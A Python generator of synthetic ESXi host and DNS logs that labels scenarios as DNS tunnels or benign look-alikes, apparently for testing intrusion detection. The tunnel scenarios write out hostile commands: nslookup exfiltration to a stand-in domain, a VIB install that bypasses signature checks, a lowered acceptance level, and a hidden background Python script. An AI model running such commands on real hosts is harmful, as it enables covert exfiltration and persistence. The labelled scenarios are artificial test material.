# SPDX-License-Identifier: Apache-2.0
"""What is told: tunnels out of a hypervisor, and ordinary days that look like some.

A scenario is what the host logs ("type": a shell command; "log": a message of a program) and what
the network sees of its lookups ("ask": for a dns.log), since ESXi itself logs none. How it is
written down is esxi_encode.py's.
"""

import base64
import datetime
import random

BEGIN = datetime.datetime(2026, 11, 3, 6, 0, 0, tzinfo=datetime.timezone.utc)
HOST = "esx1.corp.example"
ADDRESS = "192.0.2.21"      # of the management interface
RESOLVER = "192.0.2.53"
OUTSIDE = "203.0.113.53"
KNOWN = [("esx-base", "VMware", "8.0.1-0.0.21495797"),
         ("esx-update", "VMware", "8.0.1-0.0.21495797"),
         ("esx-ui", "VMware", "2.9.2-21389832"), ("net-bond", "VMware", "1.0.0-1vmw.801"),
         ("nmlx5-core", "VMW", "4.23.0.36-14vmw.801"), ("lsi-mr3", "VMW", "7.722.02.00-1vmw.801"),
         ("vmware-fdm", "VMware", "8.0.1-21560480"), ("tools-light", "VMware", "12.2.0-21223074"),
         ("dell-agent", "Dell", "3.2.0-100")]
USUAL_NAMES = ["vcenter.corp.example", "ntp1.corp.example", "ntp2.corp.example", "kms.corp.example",
               "loghost.corp.example", "esx2.corp.example", "esx3.corp.example", "dc1.corp.example"]


def encoded(rng, n):
    """n bytes as a label fit for a name."""
    return base64.b32encode(rng.randbytes(n)).decode().rstrip("=").lower()


class Hypervisor:
    """The host, its clock in seconds since BEGIN, and all that happened."""

    def __init__(self, rng, hours):
        self.rng = rng
        self.seconds = hours * 3600
        self.events = []
        self.vibs = [(n, ven, ver, "PartnerSupported" if ven == "Dell" else "VMwareCertified")
                     for n, ven, ver in KNOWN]

    def add(self, at, event):
        event["time"] = BEGIN + datetime.timedelta(seconds=round(at, 3))
        self.events.append(event)

    def type(self, at, command):
        self.add(at, {"kind": "type", "user": "root", "text": command})

    def log(self, at, program, pid, text, level=14):
        self.add(at, {"kind": "log", "program": program, "pid": pid, "text": text, "level": level})

    def hostd(self, at, sub, text, user="root"):
        self.log(at, "Hostd", 1050748, f"[Originator@6876 sub={sub} opID=esxui-{int(at) % 4096:x} "
                 f"user={user}] {text}", 166)

    def ask(self, at, name, qtype="A", rcode="NOERROR", client=ADDRESS, server=RESOLVER):
        self.add(at, {"kind": "ask", "name": name, "qtype": qtype, "rcode": rcode, "client": client,
                      "server": server, "port": self.rng.randrange(20000, 65000)})

    def every(self, mean_s, jitter=0.5):
        """Times, @mean_s apart and off by up to @jitter of it."""
        at = self.rng.random() * mean_s
        while at < self.seconds:
            yield at
            at += mean_s * (1 + self.rng.uniform(-jitter, jitter))


def background(h):
    for at in h.every(20):
        h.ask(at, h.rng.choice(USUAL_NAMES), h.rng.choice(["A", "AAAA"]))
    for client in ("192.0.2.101", "192.0.2.102", "192.0.2.103"):
        for at in h.every(30):
            host = h.rng.choice(["www", "mail", "api", "cdn"])
            h.ask(at, f"{host}.site{h.rng.randrange(90)}.example", client=client)
    for at in h.every(300, 0.01):
        h.log(at, "crond", 1049077, f"USER root pid {h.rng.randrange(1 << 20)} cmd "
              "/bin/hostd-probe.sh ++group=host/vim/vmvisor/hostd-probe/stats/sh")
    for at in h.every(120):
        h.hostd(at, "Vimsvc.ha-eventmgr", f"Event {int(at)} : User vpxuser@192.0.2.5 logged in as "
                "pyvmomi", "vpxuser")
        h.hostd(at + 1, "Vmsvc.vm:/vmfs/volumes/ds1/a.vmx", "State Transition (VM_STATE_ON)")
    for at in h.every(200):
        h.log(at, "vobd", 1048713, f"[netCorrelator] {int(at * 1e6)}us: "
              "[vob.net.vmnic.linkstate.up] vmnic vmnic0 linkstate up")
        h.log(at + 2, "vmkernel", 0, "cpu7:2097868)NMP: nmp_ResetDeviceLogThrottling:3569", 182)


def session(h, at, commands):
    """Somebody works in a shell; returns when it is over."""
    h.log(at, "sshd", 1053654, "Accepted keyboard-interactive/pam for root from 192.0.2.9 port "
          "58470 ssh2", 38)
    for command in commands:
        at += h.rng.uniform(4, 20)
        h.type(at, command)
    return at


# ---------------------------------------------------------------- tunnels

def shell_nslookup(h):
    """nslookup typed into a shell by a script of the intruder's own terminal."""
    at = session(h, 600, ["uname -a", "vim-cmd vmsvc/getallvms"])
    for _ in range(400):
        at += h.rng.uniform(1, 3)
        name = f"{encoded(h.rng, 30)}.n.lampwick.example"
        h.type(at, f"nslookup {name}")
        h.ask(at + 0.05, name)
    return "lampwick.example", "nslookup"


def rogue_vib(h):
    """A daemon in a package of nobody's, installed past the checks, that tunnels."""
    session(h, 300, ["cd /tmp", "esxcli software vib install -v /tmp/net-helper.vib --force "
                     "--no-sig-check", "rm /tmp/net-helper.vib"])
    h.hostd(390, "Default", "Attempting to install an image profile bypassing signing and "
            "acceptance level verification. This may pose a large security risk.")
    h.log(400, "esxupdate", 2099679, "root: INFO: VIBs Installed: ACME_bootbank_net-helper_1.0-1")
    h.vibs.append(("net-helper", "ACME", "1.0-1", "CommunitySupported"))
    for at in h.every(4):
        if at > 500:
            h.ask(at, f"{encoded(h.rng, 35)}.{encoded(h.rng, 20)}.v.coppermine.example", "TXT")
    return "coppermine.example", "-"


def acceptance_beacon(h):
    """The acceptance level is lowered, and from then on something calls home once a minute."""
    session(h, 200, ["esxcli software acceptance get",
                     "esxcli software acceptance set --level=CommunitySupported",
                     "esxcli software vib install -d /tmp/bundle.zip"])
    h.log(240, "vobd", 1048713, "[UserLevelCorrelator] 240000000us: "
          "[esx.audit.esximage.hostacceptance.changed] Host acceptance level changed from "
          "PartnerSupported to CommunitySupported")
    h.log(270, "esxupdate", 2099679, "root: INFO: VIBs Installed: ACME_bootbank_agent-x_0.9-2")
    h.vibs.append(("agent-x", "ACME", "0.9-2", "CommunitySupported"))
    for at in h.every(60, 0.3):
        if at > 300:
            h.ask(at, f"{encoded(h.rng, 18)}.b.redshank.example", "TXT")
    return "redshank.example", "-"


def python_outside(h):
    """A Python script that speaks to a resolver of its own, outside."""
    session(h, 900, ["cat > /tmp/.u.py", "nohup python /tmp/.u.py &", "ps -c | grep python"])
    for at in h.every(2):
        if at > 1000:
            h.ask(at, f"{encoded(h.rng, 37)}.{encoded(h.rng, 30)}.p.gorsebush.example", "TXT",
                  server=OUTSIDE)
    return "gorsebush.example", "python"


# ----------------------------------------------------------- ordinary days

def vcenter_day(h):
    """An administrator's day: sessions, snapshots, many calls of vCenter."""
    for start in (1200, 5400, 9000):
        session(h, start, ["esxcli system version get", "esxcli vm process list", "esxtop -b -n 1",
                           "vim-cmd vmsvc/getallvms", "esxcli network ip dns server list",
                           "nslookup vcenter.corp.example", "esxcli software vib list"])
    for at in h.every(15):
        h.hostd(at, "Vimsvc.TaskManager", f"Task Created : haTask-{int(at)}-vim.VirtualMachine."
                "createSnapshot", "vpxuser:CORP\\vpxd-extension")
    return None, "-"


def ha_agent(h):
    """vCenter installs its agent, for which the checks are switched off, as it always does."""
    h.hostd(600, "Default", "Attempting to install an image profile with validation disabled. This "
            "may result in an image with unsatisfied dependencies.", "vpxuser")
    h.log(610, "esxupdate", 2099679, "root: INFO: VIBs Installed: "
          "VMware_bootbank_vmware-fdm_8.0.1-21560480")
    h.hostd(620, "Libs", "Util: ForkExec(/etc/init.d/vmware-fdm start) 5318781", "vpxuser")
    return None, "-"


def ntp_kms(h):
    """Time and key servers that cannot be found for a while."""
    for at in h.every(64, 0.02):
        h.log(at, "ntpd", 1049500, "error resolving pool ntp9.corp.example: Name or service not "
              "known (-2)")
        h.ask(at, "ntp9.corp.example", rcode="NXDOMAIN")
    for at in h.every(300):
        h.hostd(at, "CryptoManager", "Could not resolve host: kms2.corp.example")
        h.ask(at, "kms2.corp.example", rcode="NXDOMAIN")
    return None, "-"


def profile_update(h):
    """The host is patched: a whole image profile of packages, all VMware's."""
    session(h, 1800, ["vim-cmd hostsvc/maintenance_mode_enter",
                      "esxcli software profile update -p ESXi-8.0U1c-22088125-standard -d "
                      "https://hostupdate.vmware.com/software/VUM/PRODUCTION/main/"
                      "vmw-depot-index.xml"])
    ids = ", ".join(f"{'VMware' if ven == 'VMW' else ven}_bootbank_{n}_{ver}"
                    for n, ven, ver in KNOWN if ven != "Dell")
    h.log(2100, "esxupdate", 2099679, f"root: INFO: VIBs Installed: {ids}")
    h.ask(1850, "hostupdate.vmware.com")
    return None, "-"


TUNNELS = {f.__name__: f for f in (shell_nslookup, rogue_vib, acceptance_beacon, python_outside)}
ORDINARY = {f.__name__: f for f in (vcenter_day, ha_agent, ntp_kms, profile_update)}


def make(name, hours, seed):
    """The host with its events in the order of time, and what there is to find."""
    h = Hypervisor(random.Random(f"{name}/{seed}"), hours)
    domain, image = {**TUNNELS, **ORDINARY}[name](h)
    background(h)
    h.events.sort(key=lambda e: e["time"])
    found = {"scenario": name, "label": "tunnel" if domain else "benign", "host": HOST,
             "image": image, "domain": domain or "-"}
    return h, found
